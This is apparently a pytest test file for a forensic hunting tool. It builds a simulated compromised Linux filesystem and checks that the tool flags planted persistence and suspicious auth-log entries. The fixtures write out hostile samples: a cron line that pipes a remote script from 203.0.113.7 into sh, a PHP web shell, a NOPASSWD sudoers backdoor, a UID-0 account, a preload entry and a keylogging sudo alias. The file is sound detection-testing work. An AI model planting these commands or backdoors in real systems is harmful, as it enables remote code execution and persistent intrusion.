"""outwatch hunt --root against a filesystem tree built here: persistence planted in real formats,
files with chosen mtimes inside and outside the window, auth logs as rsyslog and classic syslog write
them, and the traps an image can hold (absolute symlinks, a FIFO, binary junk, a huge line)."""

from __future__ import annotations

import gzip
import os
import shutil
import subprocess
import sys
import tempfile
import time
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from conftest_investigate import ndjson, no_traceback, run_cli

from outwatch.errors import ExitCode
from outwatch.investigate.fsroot import Tree
from outwatch.investigate.hunt import hunt, parse_since

NOW = time.time()
OLD = NOW - 30 * 86400
RECENT = NOW - 3600
SINCE_NS = int((NOW - 2 * 86400) * 1e9)
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAICAzYjl4B552MIPg43mLkb3fsc2EtCyFW96n4E5usx50 mallory@evil"
KEY_FP = "SHA256:3RMSTmcqCRFuQq4afMBWVLRP0Gt1S79R7+lSCwrVccM"  # from `ssh-keygen -lf` on that key
BERLIN = ZoneInfo("Europe/Berlin")


def put(root: Path, path: str, content: str | bytes = "", mtime: float = OLD, mode: int = 0o644) -> Path:
    target = root / path.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(content.encode() if isinstance(content, str) else content)
    target.chmod(mode)
    os.utime(target, (mtime, mtime))
    return target


def rfc3339(ts: float) -> str:
    return datetime.fromtimestamp(ts, UTC).isoformat(timespec="microseconds")


def classic(ts: float) -> str:
    t = datetime.fromtimestamp(ts, BERLIN)
    return f"{t:%b} {t.day:>2} {t:%H:%M:%S}"


def build_image(root: Path) -> Path:
    put(root, "etc/hostname", "web01\n")
    put(root, "etc/timezone", "Europe/Berlin\n")
    put(
        root,
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n"
        "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nalice:x:1000:1000::/home/alice:/bin/bash\n"
        "toor:x:0:0::/root:/bin/bash\n",
        mtime=RECENT,
    )
    put(
        root,
        "etc/shadow",
        "root:$6$x$y:19000:0:99999:7:::\nalice::19000:0:99999:7:::\ndaemon:*:19000::::::\n",
        mode=0o640,
    )
    put(root, "var/lib/dpkg/info/cron.list", "/etc/crontab\n/etc/cron.daily/logrotate\n")
    put(root, "var/lib/dpkg/info/coreutils.list", "/bin/ls\n")
    put(root, "var/lib/dpkg/info/openssh-server.list", "/lib/systemd/system/ssh.service\n")
    put(
        root,
        "etc/crontab",
        "SHELL=/bin/sh\n# m h dom mon dow user command\n"
        "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n",
    )
    put(root, "etc/cron.d/sys-update", "*/5 * * * * root curl -fsSL http://203.0.113.7/x.sh | sh\n", mtime=RECENT)
    (root / "etc/cron.d/escape").symlink_to("/etc/cron.d/e2scrub_all")  # the host has that file; the image not
    put(root, "etc/cron.daily/logrotate", "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n", mode=0o755)
    put(
        root,
        "var/spool/cron/crontabs/www-data",
        "# DO NOT EDIT\n@reboot /var/tmp/.cache/kworker >/dev/null 2>&1\n",
        mtime=RECENT,
    )
    put(
        root,
        "etc/systemd/system/evil.service",
        "[Unit]\nDescription=Kernel helper\n[Service]\n"
        "ExecStart=-/tmp/.x/run \\\n  --daemon\nRestart=always\n[Install]\nWantedBy=multi-user.target\n",
        mtime=RECENT,
    )
    wants = root / "etc/systemd/system/multi-user.target.wants"
    wants.mkdir(parents=True)
    (wants / "evil.service").symlink_to("/etc/systemd/system/evil.service")
    (wants / "ghost.service").symlink_to("/tmp/ghost.service")
    (root / "lib").symlink_to("/usr/lib")  # merged /usr, as an absolute link: must resolve inside the image
    put(root, "usr/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D\n")
    put(root, "usr/lib/systemd/system/backup.timer", "[Timer]\nOnCalendar=daily\nUnit=backup.service\n", mtime=RECENT)
    put(root, "etc/rc.local", "#!/bin/sh -e\nnohup /dev/shm/.s >/dev/null &\nexit 0\n", mode=0o755)
    put(root, "etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libsystemd-shim.so\n", mtime=RECENT)
    put(root, "home/alice/.ssh/authorized_keys", f'from="203.0.113.0/24" {KEY}\n', mtime=RECENT, mode=0o600)
    put(root, "root/.ssh/authorized_keys", KEY.replace("mallory@evil", "admin@laptop") + "\n", mode=0o600)
    put(root, "var/www/.ssh/authorized_keys", KEY + "\n", mode=0o600)
    put(root, "home/alice/.bashrc", "alias ls='ls --color=auto'\nalias sudo='sudo /tmp/.s/keylog'\n", mtime=RECENT)
    put(root, "root/.bashrc", 'export PATH="/root/.local/bin:$PATH"\n')
    (root / "etc/profile.d").mkdir(parents=True)
    os.mkfifo(root / "etc/profile.d/evil.sh")  # a FIFO where a file is expected must not hang the hunt
    os.mkfifo(root / "etc/anacrontab")
    put(root, "etc/sudoers.d/90-backdoor", "alice ALL=(ALL) NOPASSWD: ALL\n", mtime=RECENT, mode=0o440)
    put(root, "tmp/.x/run", Path("/bin/true").read_bytes(), mtime=RECENT, mode=0o755)
    put(root, "tmp/old.txt", "old")
    put(root, "tmp/new.txt", "new", mtime=RECENT)
    put(root, "tmp/oldtool", "#!/bin/sh\necho hi\n", mode=0o755)
    (root / "tmp/shadow-link").symlink_to("/etc/shadow")
    put(root, "var/www/html/index.php", "<?php echo 'hello'; ?>\n")
    put(root, "var/www/html/upload/shell.php", "<?php system($_GET['c']); ?>\n", mtime=RECENT)
    (root / "dev/shm").mkdir(parents=True)
    put(root, "usr/bin/ls", b"\x7fELF-ls")
    put(root, "usr/bin/sshd-helper", b"\x7fELF-helper", mode=0o755)
    (root / "bin").symlink_to("usr/bin")
    auth = [
        *(
            f"{rfc3339(RECENT - 600 + i)} web01 sshd[801]: Failed password for invalid user admin from 198.51.100.9 "
            f"port {50001 + i} ssh2"
            for i in range(6)
        ),
        f"{rfc3339(RECENT - 500)} web01 sshd[802]: Accepted password for root from 198.51.100.9 port 50111 ssh2",
        f"{rfc3339(RECENT - 400)} web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
        "COMMAND=/usr/bin/curl -o /tmp/x http://203.0.113.7/x",
        *(
            f"{rfc3339(RECENT - 300 + i)} web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
            "COMMAND=/bin/bash"
            for i in range(3)
        ),
        f"{rfc3339(RECENT - 200)} web01 useradd[900]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash,"
        " from=/dev/pts/0",
        f"{rfc3339(RECENT - 199)} web01 usermod[901]: add 'alice' to group 'sudo'",
        f"{rfc3339(RECENT - 198)} web01 passwd[902]: pam_unix(passwd:chauthtok): password changed for alice",
        f"{rfc3339(RECENT - 100)} web01 sshd[803]: Accepted publickey for alice from 192.0.2.50 port 50200 ssh2: "
        f"ED25519 {KEY_FP}",
        f"{rfc3339(NOW - 10 * 86400)} web01 sshd[700]: Accepted publickey for bob from 192.0.2.1 port 1 ssh2",
    ]
    log = "\n".join(auth[:8]) + "\n\x00\xff\xfe junk \x1b[31m\n" + "\n".join(auth[8:]) + "\n"
    put(root, "var/log/auth.log", log.encode("utf-8", "surrogateescape"), mtime=RECENT, mode=0o640)
    rotated = (
        f"{classic(RECENT - 7200)} web01 su: (to root) alice on pts/1\n"
        f"{classic(RECENT - 7100)} web01 sudo:      bob : 3 incorrect password attempts ; TTY=pts/2 ; "
        "PWD=/home/bob ; USER=root ; COMMAND=/bin/su\n"
    )
    put(root, "var/log/auth.log.2.gz", gzip.compress(rotated.encode()), mtime=RECENT - 7000)
    return root


@pytest.fixture(scope="module")
def image(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_image(tmp_path_factory.mktemp("img"))


@pytest.fixture(scope="module")
def result(image: Path):
    return hunt(SINCE_NS, image)


def find(result, action: str, **where) -> list[dict]:
    out = []
    for e in result.findings:
        if e["event"]["action"] != action:
            continue
        hunt_fields = e["outwatch"]["hunt"]
        if all(hunt_fields.get(k) == v or e.get("file", {}).get(k) == v for k, v in where.items()):
            out.append(e)
    return out


def rules(event: dict) -> set[str]:
    return {r["rule"] for r in event["outwatch"]["reasons"]}


def test_cron(result) -> None:
    (evil,) = find(result, "cron_entry", path="/etc/cron.d/sys-update")
    assert evil["outwatch"]["hunt"]["user"] == "root" and evil["outwatch"]["hunt"]["schedule"] == "*/5 * * * *"
    assert {"OW-HUNT-RECENT", "OW-HUNT-CMD-NET", "OW-HUNT-UNPACKAGED"} <= rules(evil)
    (www,) = find(result, "cron_entry", path="/var/spool/cron/crontabs/www-data")
    assert www["outwatch"]["hunt"]["user"] == "www-data" and www["outwatch"]["hunt"]["schedule"] == "@reboot"
    assert {"OW-HUNT-CMD-TEMP", "OW-HUNT-CMD-HIDDEN", "OW-HUNT-CRON-REBOOT", "OW-HUNT-USER-CRONTAB"} <= rules(www)
    (stock,) = find(result, "cron_entry", path="/etc/crontab")
    assert stock["outwatch"]["score"] == 0  # a package's own, unchanged, harmless line
    assert not find(result, "cron_script")  # package-owned, old logrotate script
    assert not [e for e in result.findings if "e2scrub" in str(e)]  # the symlink did not reach the host's file


def test_units(result) -> None:
    (evil,) = find(result, "unit_file", path="/etc/systemd/system/evil.service")
    assert evil["outwatch"]["hunt"]["exec"] == [{"line": 4, "key": "ExecStart", "command": "/tmp/.x/run --daemon"}]
    assert evil["outwatch"]["hunt"]["wanted_by"] == ["multi-user.target"]
    assert {"OW-HUNT-RECENT", "OW-HUNT-CMD-TEMP", "OW-HUNT-CMD-HIDDEN", "OW-HUNT-UNPACKAGED"} <= rules(evil)
    (ghost,) = find(result, "unit_enabled")
    assert ghost["outwatch"]["hunt"]["target"] == "/tmp/ghost.service" and "OW-HUNT-UNIT-LINK-TEMP" in rules(ghost)
    (timer,) = find(result, "unit_file", path="/usr/lib/systemd/system/backup.timer")
    assert timer["outwatch"]["hunt"]["timer"] == {"OnCalendar": "daily", "Unit": "backup.service"}
    assert [r["score"] for r in timer["outwatch"]["reasons"] if r["rule"] == "OW-HUNT-UNPACKAGED"] == [20]
    assert not find(result, "unit_file", name="ssh.service")  # packaged and old: quiet


def test_boot_preload_keys_shell_accounts(result) -> None:
    (rc,) = find(result, "rc_local")
    assert {"OW-HUNT-RCLOCAL", "OW-HUNT-CMD-HIDDEN"} <= rules(rc)
    (preload,) = find(result, "ld_so_preload")
    assert preload["outwatch"]["score"] >= 90
    keys = {e["outwatch"]["hunt"]["user"]: e for e in find(result, "ssh_authorized_key")}
    assert set(keys) == {"root", "alice", "www-data"}
    alice = keys["alice"]["outwatch"]["hunt"]
    assert alice["fingerprint"] == KEY_FP and alice["comment"] == "mallory@evil"
    assert alice["options"] == 'from="203.0.113.0/24"' and "OW-HUNT-RECENT" in rules(keys["alice"])
    assert "OW-HUNT-KEYS-SERVICE" in rules(keys["www-data"])
    assert rules(keys["root"]) == {"OW-HUNT-KEYS-ROOT"}
    (bashrc,) = find(result, "shell_startup_file")
    assert bashrc["file"]["path"] == "/home/alice/.bashrc"
    assert [h["line"] for h in bashrc["outwatch"]["hunt"]["lines"]] == [2]
    assert "cron: /etc/anacrontab: not a regular file" in result.notes  # the FIFOs were not opened
    (uid0,) = find(result, "uid0_account")
    assert uid0["outwatch"]["hunt"]["user"] == "toor" and uid0["event"]["kind"] == "alert"
    (empty,) = find(result, "empty_password")
    assert empty["outwatch"]["hunt"]["user"] == "alice"
    assert find(result, "account_file_changed", path="/etc/passwd")
    (sudoers,) = find(result, "sudoers", path="/etc/sudoers.d/90-backdoor")
    assert "OW-HUNT-SUDO-NOPASSWD" in rules(sudoers)


def test_dropped_files_by_mtime_window(result) -> None:
    files = {e["file"]["path"]: e for e in find(result, "file_found")}
    assert "/tmp/old.txt" not in files and "/var/www/html/index.php" not in files
    assert rules(files["/tmp/new.txt"]) == {"OW-HUNT-RECENT"}
    run = files["/tmp/.x/run"]
    assert {"OW-HUNT-DROP-ELF", "OW-HUNT-DROP-HIDDEN", "OW-HUNT-RECENT"} <= rules(run)
    assert run["file"]["hash"]["sha256"] == __import__("hashlib").sha256(Path("/bin/true").read_bytes()).hexdigest()
    assert rules(files["/tmp/oldtool"]) == {"OW-HUNT-DROP-EXEC"}  # old: no ctime reason offline
    assert {"OW-HUNT-WEB-SCRIPT", "OW-HUNT-WEBSHELL"} <= rules(files["/var/www/html/upload/shell.php"])
    (helper,) = find(result, "binary_found")
    assert helper["file"]["path"] == "/usr/bin/sshd-helper" and rules(helper) == {"OW-HUNT-BIN-UNPACKAGED"}


def test_auth_log_both_formats_folded(result) -> None:
    assert result.auth_source == "/var/log/auth.log.2.gz, /var/log/auth.log"
    (root_login,) = find(result, "ssh_login", method="password")
    assert root_login["user"]["name"] == "root" and root_login["source"]["ip"] == "198.51.100.9"
    assert {"OW-HUNT-SSH-ROOT", "OW-HUNT-SSH-PASSWORD", "OW-HUNT-SSH-AFTER-FAILURES"} <= rules(root_login)
    (failures,) = find(result, "ssh_login_failed")
    assert failures["outwatch"]["hunt"]["count"] == 6 and failures["outwatch"]["hunt"]["users"] == ["admin"]
    (shell,) = find(result, "sudo", command="/bin/bash")
    assert shell["outwatch"]["hunt"]["count"] == 3 and "OW-HUNT-SUDO-SHELL" in rules(shell)
    assert shell["event"]["start"] < shell["event"]["end"]
    (curl,) = find(result, "sudo", command="/usr/bin/curl -o /tmp/x http://203.0.113.7/x")
    assert "OW-HUNT-SUDO-NET" in rules(curl)
    (created,) = find(result, "user_created")
    assert created["user"]["target"]["name"] == "toor" and "OW-HUNT-UID0" in rules(created)
    (group,) = find(result, "user_added_to_group")
    assert group["outwatch"]["hunt"]["group"] == "sudo" and group["outwatch"]["score"] == 40
    assert find(result, "password_changed")[0]["user"]["target"]["name"] == "alice"
    (su,) = find(result, "su")
    expected = datetime.fromtimestamp(int(RECENT - 7200), UTC).strftime("%Y-%m-%dT%H:%M:%S")
    assert su["@timestamp"].startswith(expected)  # classic syslog time read in the image's zone (Berlin)
    (refused,) = find(result, "sudo_failed")
    assert refused["user"]["name"] == "bob" and "OW-HUNT-SUDO-FAILED" in rules(refused)
    logins = find(result, "ssh_login")
    assert {e["user"]["name"] for e in logins} == {"root", "alice"}  # bob's login 10 days ago is outside


def test_offline_identity_and_order(result, image: Path) -> None:
    assert all(e["host"].get("name") == "web01" for e in result.findings)
    assert all(e["outwatch"]["hunt"]["root"] == str(image) for e in result.findings)
    scores = [e["outwatch"]["score"] for e in result.findings]
    assert scores == sorted(scores, reverse=True)
    assert not [e for e in result.findings if "OW-HUNT-CTIME" in rules(e)]


def test_tree_resolution_stays_inside(tmp_path: Path) -> None:
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc/a").symlink_to("../../../../etc/passwd")
    (tmp_path / "etc/passwd").write_text("inside\n")
    (tmp_path / "loop").symlink_to("loop")
    tree = Tree(tmp_path)
    assert tree.resolve("/etc/a") == tmp_path / "etc/passwd"
    assert tree.resolve("/../../etc/passwd") == tmp_path / "etc/passwd"
    assert tree.resolve("/loop") is None
    assert tree.resolve("/missing/x") is None


def test_cli_on_the_image(image: Path) -> None:
    as_json = run_cli("hunt", "--root", str(image), "--since", "2d", "--json")
    assert as_json.returncode == 0, as_json.stderr
    no_traceback(as_json)
    events = ndjson(as_json.stdout)
    assert {e["event"]["dataset"] for e in events} == {"outwatch.hunt"}
    assert any(e["event"]["action"] == "uid0_account" for e in events)
    human = run_cli("hunt", "--root", str(image))
    assert human.returncode == 0 and "== cron and at" in human.stdout and "/etc/cron.d/sys-update" in human.stdout
    assert "outwatch: partial: cron: /etc/anacrontab: not a regular file" in human.stderr


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--root", "/etc/hostname"], "is not a directory"),
        (["--root", "/nonexistent/img"], "does not exist"),
        (["--since", "yesterday"], "cannot read --since"),
    ],
)
def test_cli_bad_input(args: list[str], message: str) -> None:
    out = run_cli("hunt", *args)
    assert out.returncode == ExitCode.USAGE and message in out.stderr and "fix:" in out.stderr
    no_traceback(out)


def test_parse_since() -> None:
    assert parse_since("2d", now=1_000_000.0) == int((1_000_000 - 172_800) * 1e9)
    assert parse_since("90m", now=10_000.0) == int(4_600 * 1e9)
    assert parse_since("2026-12-01T00:00:00+00:00") == int(datetime(2026, 12, 1, tzinfo=UTC).timestamp() * 1e9)


def test_unreadable_log_and_huge_binary_line() -> None:
    """As nobody: an auth.log it may not read is named as partial; a 64 MiB line of NULs before a real
    line is streamed in bounded memory and the real line is still found."""
    root = Path(tempfile.mkdtemp(prefix="ow-hunt-"))
    try:
        root.chmod(0o755)
        put(root, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
        put(root, "var/log/secure", "x\n", mtime=RECENT, mode=0o000)
        big = root / "var/log/auth.log"
        with open(big, "wb") as f:
            f.truncate(64 << 20)
            f.seek(64 << 20)
            f.write(
                f"\n{rfc3339(RECENT)} h sshd[1]: Accepted publickey for carol from 192.0.2.7 port 2 ssh2\n".encode()
            )
        big.chmod(0o644)
        os.utime(big, (RECENT, RECENT))
        code = (
            "import resource, sys; from outwatch.investigate.hunt import hunt; "
            f"r = hunt({SINCE_NS}, __import__('pathlib').Path({str(root)!r})); "
            "print([e['user']['name'] for e in r.findings if e['event']['action'] == 'ssh_login']); "
            "print(r.notes); print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)"
        )
        out = subprocess.run(
            [sys.executable, "-c", code],
            capture_output=True,
            text=True,
            user=65534,
            group=65534,
            extra_groups=[],
            timeout=120,
            cwd="/",
            check=False,
        )
        assert out.returncode == 0, out.stderr
        users, notes, rss_kib = out.stdout.splitlines()
        assert users == "['carol']"
        assert "auth: /var/log/secure: permission denied" in notes
        print("peak RSS KiB", rss_kib)
        assert int(rss_kib) < 80 * 1024  # the 64 MiB line was never held whole (it would add >= 64 MiB)
    finally:
        shutil.rmtree(root)


def test_live_host_runs() -> None:
    out = run_cli("hunt", "--since", "1h", "--json")
    assert out.returncode == 0, out.stderr
    no_traceback(out)
    assert all(
        e["event"]["dataset"] == "outwatch.hunt" and "root" not in e["outwatch"]["hunt"] for e in ndjson(out.stdout)
    )


def test_auth_log_older_than_the_window(tmp_path: Path) -> None:
    put(tmp_path, "etc/hostname", "h\n")
    line = f"{rfc3339(OLD)} h sshd[1]: Accepted password for root from 192.0.2.9 port 1 ssh2\n"
    put(tmp_path, "var/log/auth.log", line)
    result = hunt(SINCE_NS, tmp_path)
    assert result.auth_source == "/var/log/auth.log (nothing written in the window)"
    assert not result.by_check["auth"] and not [n for n in result.notes if n.startswith("auth:")]
